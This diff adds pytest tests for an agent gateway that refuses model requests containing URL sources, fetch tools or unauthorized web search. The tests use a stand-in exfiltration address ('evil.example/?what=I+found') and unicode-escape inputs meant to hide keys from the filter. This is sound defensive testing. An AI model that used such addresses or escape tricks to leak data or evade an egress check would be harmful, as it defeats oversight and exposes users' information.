@@ -1,0 +1,72 @@
+"""What an agent may ask of the model, judged by the bytes of its request."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import pytest
+
+from infra.runtime.settings import Settings
+from worker.gateway.main import config_from
+from worker.gateway.model_request import refuse_fetches
+from worker.gateway.refusals import CallRefused
+
+URL = {"type": "url", "url": "https://evil.example/?what=I+found"}
+SEARCH = {"type": "web_search_20250305", "name": "web_search"}
+
+
+def said(*blocks: Any) -> dict[str, Any]:
+    return {"model": "m", "messages": [{"role": "user", "content": list(blocks)}]}
+
+
+@pytest.mark.parametrize(
+    "asked",
+    [
+        said({"type": "image", "source": URL}),
+        said({"type": "document", "source": dict(reversed(URL.items()))}),
+        said({"type": "tool_result", "content": [{"type": "image", "source": URL}]}),
+        {**said(), "tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
+    ],
+)
+@pytest.mark.parametrize("separators", [(",", ":"), (", ", " :\n\t")])
+def test_the_models_service_follows_no_url_of_an_agents(
+    asked: dict[str, Any], separators: tuple[str, str]
+) -> None:
+    """Whatever program runs in a container reaches the model's socket: what left out `WebFetch`, or
+    had the policy `none`, could still be told to the world in an address."""
+    with pytest.raises(CallRefused) as refused:
+        refuse_fetches(json.dumps(asked, separators=separators).encode(), is_search_open=True)
+    assert refused.value.status == 403
+
+
+def test_the_models_service_searches_only_where_agents_have_that_tool() -> None:
+    asked = json.dumps({**said(), "tools": [SEARCH]}).encode()
+    refuse_fetches(asked, is_search_open=True)
+    with pytest.raises(CallRefused):
+        refuse_fetches(asked, is_search_open=False)
+    for tools, is_open in (("Bash,WebSearch", True), ("Bash,WebFetch", False)):
+        settings = Settings.model_validate({"secret": "s" * 32, "tools": tools})
+        assert config_from(settings).model_limits.is_search_open is is_open
+
+
+@pytest.mark.parametrize("hidden", [b'"typ\\u0065"', b'"\\u0074ype"', b'"\\u0054ype"'])
+def test_letters_are_not_hidden_in_escapes(hidden: bytes) -> None:
+    with pytest.raises(CallRefused):
+        refuse_fetches(b"{" + hidden + b':"url"}', is_search_open=True)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '{"type":"url"}',
+        '"type": "web_fetch_20250910"',
+        r'"type":"url" and \"type\":\"url\"',
+        r"\u0041 \\u0041",
+        "\u0000\u001f\u007f\u00e4\u2028 ☺ \\",
+    ],
+)
+def test_a_text_may_say_anything(text: str) -> None:
+    asked = said({"type": "text", "text": text}, {"type": "web_search_tool_result", "content": []})
+    for form in (json.dumps(asked), json.dumps(asked, ensure_ascii=False)):
+        refuse_fetches(form.encode(), is_search_open=False)
